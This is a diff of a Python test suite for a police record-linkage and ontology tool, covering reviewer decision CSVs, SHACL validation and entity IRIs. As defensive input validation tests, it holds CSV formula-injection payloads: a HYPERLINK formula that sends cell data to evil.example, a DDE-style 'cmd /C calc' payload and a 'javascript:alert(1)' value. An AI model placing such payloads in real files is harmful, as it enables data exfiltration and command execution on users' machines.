@@ -17,12 +17,14 @@ from policeonto.cli import main
 from policeonto.errors import InstanceDataError
 from policeonto.fastshacl.report import ResultKey, report_keys
 from policeonto.linkage import CLUSTERS_GRAPH, DECISIONS_GRAPH, MATCHES_GRAPH, link
-from policeonto.linkage.decisions import read_decisions
+from policeonto.linkage.decisions import read_decisions, stored_decisions
+from policeonto.linkage.entities import resolved_iri
 from policeonto.store import EmbeddedStore, Store
 from policeonto.validation import validate
 
 ROOT = Path(__file__).resolve().parents[1]
 POLE = "https://w3id.org/policeonto/"
+RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
 FIELDS = ["first_record", "second_record", "decision", "decided_by", "decided_at", "note"]
 
 
@@ -72,7 +74,9 @@ def _decide(target: Path, rows: list[dict[str, str]]) -> Path:
     return target
 
 
-def _row(first: str, second: str, decision: str, by: str = "PS 4121", at: str = "2026-07-05T14:30:00") -> dict:
+def _row(
+    first: str, second: str, decision: str, by: str = "ps4121@force-a.police.example", at: str = "2026-07-05T14:30:00"
+) -> dict:
     return dict(zip(FIELDS, [first, second, decision, by, at, ""], strict=True))
 
 
@@ -114,7 +118,7 @@ def test_the_review_csv_round_trip_changes_the_clusters(
     assert list(rows[0])[-4:] == ["decision", "decided_by", "decided_at", "note"]
     for row in rows:  # the steward fills in two rows in a spreadsheet and leaves the rest undecided
         if (row["first_record"], row["second_record"]) == grey:
-            row.update(decision="Same", decided_by="PS 4121 Intelligence Unit", decided_at="2026-07-05 14:30")
+            row.update(decision="Same", decided_by=" PS4121@force-a.police.example ", decided_at="2026-07-05 14:30")
             row["note"] = "Same custody photograph"
     rows.append({**rows[0], **_row(*sure, "not-same"), "match": ""})
     filled = _decide(tmp_path / "decided.csv", rows)
@@ -150,6 +154,8 @@ def test_the_review_csv_round_trip_changes_the_clusters(
             f"PREFIX pole: <{POLE}>\nSELECT ?e WHERE {{ GRAPH <{CLUSTERS_GRAPH}> {{ ?e pole:confirmed_by ?d }} }}"
         )
     assert decided.values("decision") == {POLE + "code/match-decision/same", POLE + "code/match-decision/not-same"}
+    # Who decided is an agent, named by an IRI: an email address is read as a mailto: IRI.
+    assert decided.values("by") == {"mailto:PS4121@force-a.police.example", "mailto:ps4121@force-a.police.example"}
     assert "2026-07-05T14:30:00" in decided.values("at") and decided.values("note") == {"Same custody photograph"}
     assert len(confirmed.rows) == 1
 
@@ -159,8 +165,16 @@ def test_a_later_decision_on_a_pair_replaces_an_earlier_one(
 ) -> None:
     model, pair, _ = _grey_and_sure(prepared, store)
     _link(store, model, _decide(tmp_path / "first.csv", [_row(*pair, "same", at="2026-07-05")]))
-    later = _link(store, model, _decide(tmp_path / "later.csv", [_row(*pair, "not-same", "DS 77", "2026-07-06")]))
-    assert [(d.verdict, d.decided_by) for d in later.decisions] == [("not-same", "DS 77")]
+    later = _link(
+        store,
+        model,
+        _decide(
+            tmp_path / "later.csv", [_row(*pair, "not-same", "https://force-a.police.example/staff/77", "2026-07-06")]
+        ),
+    )
+    assert [(d.verdict, d.decided_by) for d in later.decisions] == [
+        ("not-same", "https://force-a.police.example/staff/77")
+    ]
     assert not _together(later.clusters, *pair)
     older = _link(store, model, _decide(tmp_path / "older.csv", [_row(*pair, "same", at="2026-07-01")]))
     assert [d.verdict for d in older.decisions] == ["not-same"]  # decided before the one recorded: not taken
@@ -202,24 +216,34 @@ def test_the_decisions_graph_conforms_in_both_engines(
         written = _graphs(opened, tmp_path / "decisions.nt")
     assert _keys(written, "fast") == _keys(written, "pyshacl") == set()
     by_pair = {(d.first, d.second): d.iri for d in result.decisions}
-    same, apart = by_pair[tuple(sorted(pair))], by_pair[tuple(sorted(sure))]
-    # Broken on purpose: a decision without who decided, one with an unknown verdict and a date for a time.
+    same, apart, third = (by_pair[tuple(sorted(p))] for p in (pair, sure, unpaired))
+    assert f"<mailto:ps4121@force-a.police.example> <{RDF}type> <{POLE}Agent> ." in written.read_text(encoding="utf-8")
+    # Broken on purpose: a decision without who decided, one with an unknown verdict and a date for a time and
+    # decided by an IRI that is no agent, one decided by a name instead of an agent's IRI.
     lines = [
         line
         for line in written.read_text(encoding="utf-8").splitlines()
-        if not line.startswith(f"<{same}> <{POLE}decided_by>")
+        if not line.startswith((f"<{same}> <{POLE}decided_by>", f"<{apart}> <{POLE}decided_by>"))
     ]
     lines = [
-        line for line in lines if not line.startswith((f"<{apart}> <{POLE}decision>", f"<{apart}> <{POLE}decided_at>"))
+        line
+        for line in lines
+        if not line.startswith(
+            (f"<{apart}> <{POLE}decision>", f"<{apart}> <{POLE}decided_at>", f"<{third}> <{POLE}decided_by>")
+        )
     ]
     lines.append(f"<{apart}> <{POLE}decision> <{POLE}code/match-decision/maybe> .")
     lines.append(f'<{apart}> <{POLE}decided_at> "2026-07-05"^^<http://www.w3.org/2001/XMLSchema#date> .')
+    lines.append(f"<{apart}> <{POLE}decided_by> <https://force-a.police.example/staff/77> .")
+    lines.append(f'<{third}> <{POLE}decided_by> "PS 4121 Intelligence Unit" .')
     (tmp_path / "broken.nt").write_text("\n".join(lines) + "\n", encoding="utf-8")
     found = _differential(tmp_path / "broken.nt")
     assert {
         (f"<{same}>", "decided_by", "MinCountConstraintComponent"),
         (f"<{apart}>", "decision", "InConstraintComponent"),
         (f"<{apart}>", "decided_at", "DatatypeConstraintComponent"),
+        (f"<{apart}>", "decided_by", "ClassConstraintComponent"),
+        (f"<{third}>", "decided_by", "NodeKindConstraintComponent"),
     } <= found
 
 
@@ -266,6 +290,12 @@ def _record_pair(prepared: tuple[Path, Path, Path]) -> tuple[str, str]:
         (lambda row: row.update(decided_at="05/07/2026"), "decided_at", "not a date or date and time '05/07/2026'"),
         (lambda row: row.update(decided_by=" "), "decided_by", "blank"),
         (
+            lambda row: row.update(decided_by="PS 4121 Intelligence Unit"),
+            "decided_by",
+            "not an email address or IRI 'PS 4121 Intelligence Unit'",
+        ),
+        (lambda row: row.update(decided_by="javascript:alert(1)"), "decided_by", "not an email address or IRI"),
+        (
             lambda row: row.update(second_record="https://example.org/nobody"),
             "second_record",
             "'https://example.org/nobody' is not a record in the store",
@@ -301,12 +331,60 @@ def test_a_formula_in_the_file_stays_data(prepared: tuple[Path, Path, Path], sto
     first, second = _record_pair(prepared)
     formula = '=HYPERLINK("http://evil.example/?"&A1,"PS 1")'
     note = "@SUM(1+1)*cmd|' /C calc'!A0"
-    row = {**_row(first, second, "not-same", formula), "note": note}
+    row = {**_row(first, second, "not-same"), "note": note}
     result = _link(store, model, _decide(tmp_path / "d.csv", [row]))
-    assert [(d.decided_by, d.note) for d in result.decisions] == [(formula, note)]
+    assert [d.note for d in result.decisions] == [note]
     with EmbeddedStore(store) as opened:
         stored = opened.query(
-            f"SELECT ?by ?note WHERE {{ GRAPH <{DECISIONS_GRAPH}> {{ "
-            f"?d <{POLE}decided_by> ?by ; <{POLE}decision_note> ?note }} }}"
+            f"SELECT ?note WHERE {{ GRAPH <{DECISIONS_GRAPH}> {{ ?d <{POLE}decision_note> ?note }} }}"
         )
-    assert stored.values("by") == {formula} and stored.values("note") == {note}
+    assert stored.values("note") == {note}
+    # Who decided is an agent's IRI or email address: a formula there is refused, naming the row, never stored.
+    bad = _decide(tmp_path / "bad.csv", [{**_row(first, second, "same", formula), "note": ""}])
+    with pytest.raises(InstanceDataError, match=r":2: column decided_by: not an email address or IRI '=HYPERLINK"):
+        _link(store, model, bad)
+    with EmbeddedStore(store) as opened:
+        assert [d.verdict for d in stored_decisions(opened)] == ["not-same"]
+
+
+def _named(result) -> dict[tuple[str, ...], str]:
+    return dict(zip((members for members, _ in result.clusters), result.resolved, strict=True))
+
+
+def test_a_resolved_entity_keeps_its_iri_and_a_merge_or_split_is_named_by_the_rules(
+    prepared: tuple[Path, Path, Path], store: Path, tmp_path: Path
+) -> None:
+    _, model, _ = prepared
+    linked = _link(store, model)
+    first = _named(linked)
+    assert all(iri == resolved_iri("person", members) for members, iri in first.items())  # new: from the members
+    assert _named(_link(store, model)) == first  # linked again: every entity keeps its IRI
+    _load(store, prepared[0].parent / "force-b" / "export.json", "--no-validate")  # Force B loaded again
+    assert _named(_link(store, model)) == first
+    with EmbeddedStore(store) as opened:
+        stored = opened.query(f"SELECT ?e WHERE {{ GRAPH <{CLUSTERS_GRAPH}> {{ ?e a <{POLE}ResolvedEntity> }} }}")
+    assert stored.values("e") == set(first.values())
+    # A record that sorts before every member joins an entity (a person decided it): the entity keeps its IRI.
+    clustered = {record for members in first for record in members}
+    newcomer = min(record for m in linked.pairs for record in (m.first, m.second) if record not in clustered)
+    (one, one_iri), (other, other_iri) = [
+        (members, iri) for members, iri in sorted(first.items()) if members[0] > newcomer
+    ][:2]
+    rows = [_row(newcomer, one[0], "same", at="2026-07-05")]
+    grown = _named(_link(store, model, _decide(tmp_path / "grown.csv", rows)))
+    assert grown[tuple(sorted((*one, newcomer)))] == one_iri
+    # Two entities merged (a person decided them one): the merged one keeps the IRI of the one it shares the
+    # most records with, so the grown one's; every other entity keeps its own.
+    rows.append(_row(one[0], other[0], "same", at="2026-07-05"))
+    merged = _named(_link(store, model, _decide(tmp_path / "merged.csv", rows)))
+    assert merged[tuple(sorted((*one, *other, newcomer)))] == one_iri and other_iri not in merged.values()
+    assert {members: iri for members, iri in merged.items() if iri != one_iri} == {
+        members: iri for members, iri in first.items() if iri not in (one_iri, other_iri)
+    }
+    # Split again (a later decision): the part with more of the merged entity's records keeps its IRI; the
+    # other is a new cluster, named from its members, which names it as it was first.
+    later = [_row(one[0], other[0], "not-same", at="2026-07-06")]
+    split = _named(_link(store, model, _decide(tmp_path / "split.csv", later)))
+    assert split[tuple(sorted((*one, newcomer)))] == one_iri and split[other] == other_iri == resolved_iri(
+        "person", other
+    )
